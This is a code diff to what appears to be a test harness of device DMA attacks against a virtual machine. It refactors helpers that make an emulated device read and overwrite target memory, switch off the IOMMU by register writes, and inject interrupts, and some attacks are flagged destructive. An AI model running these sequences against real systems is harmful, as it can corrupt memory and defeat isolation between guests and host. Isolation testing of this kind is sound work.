@@ -15,22 +15,30 @@ INIT, NMI, SMI = 0x500, 0x400, 0x200
 TRANSLATED = "iommu.strict=1 iommu.passthrough=0"
 
 
-def edu_dma(victim, address, count, to_memory):
-    """Starts one transfer between edu's buffer and memory and waits, inside, until the device is idle again."""
+def _edu_transfer(victim, address, count, to_memory):
+    """The shell line of one transfer between edu's buffer and memory that waits until the device is idle again."""
     _, base, _ = victim.find(*EDU)
     source, target = (EDU_BUFFER, address) if to_memory else (address, EDU_BUFFER)
     acts = line(("mmiow", base + 0x80, 8, source), ("mmiow", base + 0x88, 8, target),
                 ("mmiow", base + 0x90, 8, count), ("mmiow", base + 0x98, 8, 3 if to_memory else 1))
     busy = command("mmio", base + 0x98, 4)
-    victim.shell(f"({acts}) >/dev/null; i=0; while [ $i -lt 200 ] && [ $((0x$({busy}) & 1)) = 1 ]; do i=$((i+1)); done")
+    return f"({acts}) >/dev/null; i=0; while [ $i -lt 200 ] && [ $((0x$({busy}) & 1)) = 1 ]; do i=$((i+1)); done"
+
+
+def edu_fetch(victim, address, count):
+    return _edu_transfer(victim, address, count, False)
+
+
+def edu_store(victim, address, count):
+    return _edu_transfer(victim, address, count, True)
 
 
 def edu_write(victim, address, value, count=8):
     """edu writes `value` to an address: first it fetches the value from a page of the service domain's."""
     page = victim.alloc()
     victim.ring0("write", page, 8, value)
-    edu_dma(victim, page, count, False)
-    edu_dma(victim, address, count, True)
+    victim.shell(edu_fetch(victim, page, count))
+    victim.shell(edu_store(victim, address, count))
 
 
 def dma_write(victim):
@@ -41,8 +49,8 @@ def dma_write(victim):
 def dma_read(victim):
     target, page = victim.target(), victim.alloc()
     victim.ring0("write", page, 8, PATTERN + 7)
-    edu_dma(victim, target, 8, False)
-    edu_dma(victim, page, 8, True)
+    victim.shell(edu_fetch(victim, target, 8))
+    victim.shell(edu_store(victim, page, 8))
     return victim.truth(page, 8) == victim.truth(target, 8)
 
 
@@ -77,10 +85,11 @@ def nvme_write(victim):
 
 
 def iommu_off(victim):
-    """Switch the IOMMU off by its registers, then DMA."""
-    target = victim.target()
-    return memory_changes(victim, target, lambda: (victim.shell(command("mmiow", IOMMU + 0x18, 8, 0)),
-                                                   edu_write(victim, target, MARK)))
+    """Switch the IOMMU off by its registers, then DMA: in one line, since Linux loses its interrupts with it."""
+    target, value = victim.target(), victim.alloc()
+    victim.ring0("write", value, 8, MARK)
+    return memory_changes(victim, target, lambda: victim.fire("; ".join(
+        [command("mmiow", IOMMU + 0x18, 8, 0), edu_fetch(victim, value, 8), edu_store(victim, target, 8)])))
 
 
 def iommu_message(victim):
@@ -144,10 +153,8 @@ def dma_init(victim):
     victim.find(*EDU)
     page = victim.alloc()
     victim.ring0("write", page, 4, INIT)
-    edu_dma(victim, page, 4, False)
-    _, base, _ = victim.find(*EDU)
-    victim.fire(line(("mmiow", base + 0x80, 8, EDU_BUFFER), ("mmiow", base + 0x88, 8, 0xFEE01000),
-                     ("mmiow", base + 0x90, 8, 4), ("mmiow", base + 0x98, 8, 3)))
+    victim.shell(edu_fetch(victim, page, 4))
+    victim.fire(edu_store(victim, 0xFEE01000, 4))
     return victim.wait_for(lambda: victim.was_reset(1), 5)
 
 
@@ -179,7 +186,7 @@ ATTACKS = [
     Attack("dma-read", "device", dma_read),
     Attack("dma-configuration", "device", dma_to_configuration),
     Attack("nvme-write", "device", nvme_write),
-    Attack("iommu-off", "device", iommu_off, more=TRANSLATED),
+    Attack("iommu-off", "device", iommu_off, destructive=True, more=TRANSLATED),
     Attack("iommu-message", "device", iommu_message, destructive=True),
     Attack("message-init", "device", message_init, destructive=True),
     Attack("message-nmi", "device", message_nmi),
